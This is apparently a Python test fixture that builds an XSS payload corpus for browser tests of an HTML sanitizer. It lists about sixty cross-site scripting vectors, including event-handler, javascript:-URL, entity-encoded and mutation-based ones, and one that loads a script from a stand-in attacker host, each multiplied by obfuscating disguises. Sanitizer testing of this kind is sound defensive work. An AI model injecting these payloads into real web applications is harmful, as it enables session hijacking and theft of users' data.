"""Our own XSS corpus: classic vectors, each in several disguises. Every payload calls
xss(<n>) when it runs, so a browser test can tell which one got through."""

BASE = [
    "<script>xss({n})</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=xss({n})>",
    "<img src=x onerror=\"xss({n})\">",
    "<img/src/onerror=xss({n})>",
    "<svg onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<body onload=xss({n})>",
    "<iframe src=\"javascript:xss({n})\"></iframe>",
    "<iframe srcdoc=\"<script>parent.xss({n})</script>\"></iframe>",
    "<a href=\"javascript:xss({n})\">click</a>",
    "<a href=\"JaVaScRiPt:xss({n})\">click</a>",
    "<a href=\"java\tscript:xss({n})\">click</a>",
    "<a href=\"java&#x09;script:xss({n})\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss({n})\">click</a>",
    "<a href=\" javascript:xss({n})\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"vbscript:xss({n})\">click</a>",
    "<a href=\"https://ok.example\" onclick=\"xss({n})\">click</a>",
    "<a href=\"https://ok.example\" onmouseover=xss({n})>hover</a>",
    "<input autofocus onfocus=xss({n})>",
    "<details open ontoggle=xss({n})>",
    "<video><source onerror=xss({n})></video>",
    "<audio src=x onerror=xss({n})>",
    "<object data=\"javascript:xss({n})\"></object>",
    "<embed src=\"javascript:xss({n})\">",
    "<form action=\"javascript:xss({n})\"><button>go</button></form>",
    "<button formaction=\"javascript:xss({n})\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:xss({n})\">",
    "<link rel=import href=\"data:text/html,<script>xss({n})</script>\">",
    "<style>@import 'javascript:xss({n})';</style>",
    "<div style=\"background:url(javascript:xss({n}))\">x</div>",
    "<p style=\"x:expression(xss({n}))\">x</p>",
    "<b onmouseover=xss({n})>bold</b>",
    "<abbr title=\"x\" onclick=xss({n})>abbr</abbr>",
    "<blockquote cite=\"javascript:xss({n})\" onclick=xss({n})>q</blockquote>",
    "<code><script>xss({n})</script></code>",
    "<pre><img src=x onerror=xss({n})></pre>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    "<<script>script>xss({n})<</script>/script>",
    "<!--<img src=\"--><img src=x onerror=xss({n})//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=xss({n})>\">",
    "<textarea></textarea><img src=x onerror=xss({n})>",
    "<title></title><img src=x onerror=xss({n})>",
    "<xmp><img src=x onerror=xss({n})></xmp>",
    "<template><img src=x onerror=xss({n})></template>",
    "<base href=\"javascript:xss({n})//\">",
    "\"><img src=x onerror=xss({n})>",
    "'><svg onload=xss({n})>",
    "</textarea><script>xss({n})</script>",
    "<a href=\"https://ok.example\" title=\"\" onclick=\"xss({n})\">t</a>",
    "<a title='x' href='https://ok.example'onclick='xss({n})'>t</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "javascript:xss({n})",
    "<marquee onstart=xss({n})>m</marquee>",
    "<isindex action=javascript:xss({n}) type=image>",
    "<keygen autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})></select>",
]

DISGUISES = [
    lambda p: p,
    lambda p: p.upper().replace("XSS(", "xss("),
    lambda p: p.replace("<", "< ").replace("< /", "</"),
    lambda p: p.replace(" ", "\n"),
    lambda p: f"Sure.\n\n{p}\n\nThanks http://ok.example.com",
]


def payloads():
    result = []
    for template in BASE:
        for disguise in DISGUISES:
            result.append(disguise(template.replace("{n}", str(len(result)))))
    return result


PAYLOADS = payloads()
